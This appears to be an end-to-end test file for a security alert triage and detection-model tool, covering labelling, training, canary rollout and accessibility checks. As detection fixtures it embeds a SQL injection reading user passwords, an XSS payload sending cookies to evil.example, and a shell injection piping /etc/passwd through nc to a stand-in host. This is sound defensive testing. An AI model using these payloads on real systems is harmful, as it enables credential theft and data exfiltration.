import type { Page } from "playwright";
import { afterAll, beforeAll, expect, test } from "vitest";
import { generateRows } from "../electron/engine/learn/fixture-rows.ts";
import { findNothingInaccessible } from "./axe.ts";
import { allAnalysed, openWindow, ordinaryDay, tabTo, type Window } from "./window.ts";

// What an analyst decides about alerts makes a model that decides better, without a mouse, but for the choice of files.
let window: Window;
let page: Page;
let problems: string[];

beforeAll(async () => {
  window = await openWindow();
  ({ page, problems } = await window.open());
  await page.getByText("Live", { exact: true }).waitFor();
});
afterAll(() => window?.close());

const patienceMs = 60_000;
const falsePositive = "order 7 OR 8=three";
const attacks = [
  "1' UNION SELECT name, password FROM users-- -",
  "<script>document.location='//evil.example/'+document.cookie</script>",
  "; cat /etc/passwd | nc evil.example 4444",
];

async function press(...keys: string[]): Promise<void> {
  for (const key of keys) await page.keyboard.press(key);
}

/** Visits of one request each, a day after another, so that every one is an alert of its own. */
const visitsFrom = (firstDay: number) =>
  [falsePositive, ...attacks]
    .map(
      (value, i) =>
        `10.200.${firstDay}.${i} - - [${String(firstDay + i).padStart(2, "0")}/Feb/2026:08:00:00 +0000] ` +
        `"GET /search?q=${encodeURIComponent(value).replaceAll("'", "%27")} HTTP/1.1" 200 12 "-" "Mozilla/5.0"`,
    )
    .join("\n");

async function bring(name: string, text: string): Promise<void> {
  await press("g", "i");
  const buffer = Buffer.from(text);
  // The screen before has a choice of files of its own.
  await page.getByRole("region", { name: "Bring evidence" }).waitFor();
  await page.locator('input[type="file"]').first().setInputFiles({ name, mimeType: "text/plain", buffer });
  await page.getByText(name).first().waitFor();
  await allAnalysed(page);
}

const grid = () => page.getByRole("grid", { name: "Alerts" });

/** Asks the queue and waits until it has settled on so many alerts. */
async function ask(query: string, alerts: number): Promise<void> {
  await press("g", "q");
  await grid().waitFor();
  await press("/", "Control+a");
  await page.keyboard.type(query);
  await press("Enter");
  await expect
    .poll(async () => {
      const isBusy = (await grid().getAttribute("aria-busy")) !== "false";
      return isBusy ? null : await grid().getAttribute("aria-rowcount");
    })
    .toBe(String(alerts + 1));
}

const said = (words: string | RegExp) => page.getByRole("log").getByText(words).last().waitFor();

test("alerts are closed: one as a false positive, the others as attacks", async () => {
  await press("g", "n");
  const rows = generateRows("loop", 3000).map(({ text, label, place }) => JSON.stringify({ text, label, place }));
  await page.getByLabel("File of labelled payloads").setInputFiles({
    name: "labelled.jsonl",
    mimeType: "application/jsonl",
    buffer: Buffer.from(rows.join("\n")),
  });
  await page.getByRole("heading", { name: "labelled.jsonl" }).waitFor();

  await bring("february.log", visitsFrom(1));
  await ask("is:open", 1 + attacks.length);
  await ask("is:open before:2026-02-02", 1);
  await press("j", "c");
  await page.getByRole("dialog").waitFor();
  await press("2", "Enter");
  await said(/closed as a false positive/);
  await ask("is:open", attacks.length);
  await press("j", "X", "c");
  await page.getByRole("dialog").waitFor();
  await press("1", "Enter");
  await said("3 alerts: closed as a true positive.");
});

test("a model is trained on what was decided, and passes every gate", async () => {
  await press("g", "n");
  // Its keys do something once the screen stands.
  await page.getByRole("tab", { name: "Labels now" }).waitFor();
  await press("M");
  await page.getByRole("dialog").waitFor();
  await page.keyboard.type("the first false positive");
  await press("Enter");
  await said(/^Version [0-9a-f]{10} is made/);
  await press("g", "p");
  await page.getByText("Nothing was trained yet").waitFor();
  await tabTo(page, /^Train on the dataset$/);
  await press("Enter");
  await page.getByRole("heading", { name: "Gates every one passed" }).waitFor({ timeout: patienceMs });
}, 90_000);

test("it goes from the shadow to all sessions, step by step", async () => {
  await press("g", "y");
  await page.getByText("Each step is approved").waitFor();
  await tabTo(page, /^Put it in the shadow$/);
  await press("Enter");
  await page.getByText("is on trial").waitFor();
  for (const [i, step] of ["1 % of sessions", "10 % of sessions", "Decides all sessions"].entries()) {
    await bring(`day-${i}.log`, ordinaryDay(1500, i));
    await press("g", "y");
    const latest = page.getByRole("table", { name: "What happened" }).locator("tbody tr").first();
    await latest.filter({ hasText: step }).filter({ hasText: "every bound below its limit" }).waitFor();
  }
}, 90_000);

test("it is said that the trial watches it no longer, and what does", async () => {
  await page.getByText("nothing takes it out by itself any more").waitFor();
  expect(await page.getByRole("button", { name: "Back to the model before" }).isEnabled()).toBe(true);
  await findNothingInaccessible(page, "canary, promoted");
  await page.getByRole("region", { name: "Canary" }).getByRole("link", { name: "Drift" }).press("Enter");
  await page.getByRole("tab", { name: "Features and scores" }).waitFor();
});

test("the payload of the false positive alerts no more, and every attack does", async () => {
  await bring("later.log", visitsFrom(11));
  await ask("after:2026-02-11", attacks.length);
  await ask("after:2026-02-11 payload:order", 0);
  expect(problems).toEqual([]);
});
